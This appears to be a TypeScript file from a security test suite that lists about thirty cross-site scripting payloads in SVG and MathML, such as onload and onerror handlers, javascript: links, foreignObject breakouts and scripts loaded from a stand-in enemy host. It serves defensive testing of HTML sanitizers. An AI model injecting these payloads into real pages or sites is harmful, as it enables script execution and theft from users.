import {ENEMY, type AttackClass} from '../attack.js';
import {html} from './html-sinks.js';

const DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" onload="top.alert(1)"/>';

/** The two other languages that HTML holds, with rules of their own. */
export const SVG_MATHML: AttackClass = {
  name: 'SVG and MathML',
  attacks: [
    html('A drawing runs a handler when it is there', 'attribute', '<svg onload=alert(1)></svg>'),
    html('A drawing is not closed', 'element', '<svg/onload=alert(1)>'),
    html('A drawing holds a script', 'element', '<svg><script>alert(1)</script></svg>'),
    html('A drawing holds a script that names a file', 'element', `<svg><script href="${ENEMY}/x.js"></script></svg>`),
    html(
      'A link in a drawing has a script as its URL',
      'element',
      '<svg><a href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    ),
    html(
      'A link in a drawing has its URL in the old attribute',
      'attribute',
      '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    ),
    html(
      'An animation gives a link a script as its URL',
      'element',
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
    ),
    html('An animation sets a handler', 'element', '<svg><set attributeName="onclick" to="alert(1)"/></svg>'),
    html(
      'An animation runs a handler when it begins',
      'dialog',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    ),
    html(
      'A drawing holds HTML with a handler',
      'dialog',
      '<svg><foreignObject><img src onerror=alert(1)></foreignObject></svg>',
    ),
    html(
      'A drawing holds a frame',
      'dialog',
      '<svg><foreignObject><iframe src="javascript:top.alert(1)"></iframe></foreignObject></svg>',
    ),
    html(
      'The name of a drawing holds HTML with a handler',
      'dialog',
      '<svg><title><img src onerror=alert(1)></title></svg>',
    ),
    html(
      'The words about a drawing hold HTML with a handler',
      'dialog',
      '<svg><desc><img src onerror=alert(1)></desc></svg>',
    ),
    html(
      'A style element in a drawing is not a style element, and its text has a handler',
      'dialog',
      '<svg><style><img src onerror=alert(1)></style></svg>',
    ),
    html('A drawing uses a part of a file of another host', 'element', `<svg><use href="${ENEMY}/x.svg#x"/></svg>`),
    html(
      'A drawing uses a part of itself, written as data',
      'element',
      `<svg><use href="data:image/svg+xml;base64,${btoa(DRAWING)}#x"/></svg>`,
    ),
    html('A drawing shows a picture', 'request', `<svg><image href="${ENEMY}/x.png"/></svg>`),
    html(
      'A filter in a drawing loads a picture',
      'element',
      `<svg><filter><feImage href="${ENEMY}/x.png"/></filter></svg>`,
    ),
    html(
      'A handler is an element of SVG',
      'element',
      '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    ),
    html(
      'A drawing covers the page',
      'attribute',
      '<svg style="position: fixed; inset: 0" width="9999" height="9999"><rect width="9999" height="9999"/></svg>',
    ),
    html('An entity in a script of a drawing is code', 'element', '<svg><script>&#97;lert(1)</script></svg>'),

    html(
      'A formula is a link with a script as its URL',
      'attribute',
      '<math href="javascript:alert(1)"><mi>x</mi></math>',
    ),
    html(
      'A part of a formula is a link in the old attribute',
      'attribute',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    ),
    html(
      'An action of a formula tells a script',
      'element',
      '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    html(
      'A note in a formula holds HTML with a handler',
      'dialog',
      '<math><annotation-xml encoding="text/html"><img src onerror=alert(1)></annotation-xml></math>',
    ),
    html(
      'A formula is left by a tag of HTML with a handler',
      'dialog',
      '<math><mi><img src onerror=alert(1)></mi></math>',
    ),
    html('A picture in a formula is of another host', 'element', `<math><mglyph src="${ENEMY}/x.png"></mglyph></math>`),
    html(
      'A drawing stands in a note of a formula',
      'element',
      '<math><annotation-xml><svg onload=alert(1)></svg></annotation-xml></math>',
    ),
    html(
      'A formula takes part in the page with a handler',
      'attribute',
      '<math><mtext onclick=alert(1)>x</mtext></math>',
    ),
  ],
};
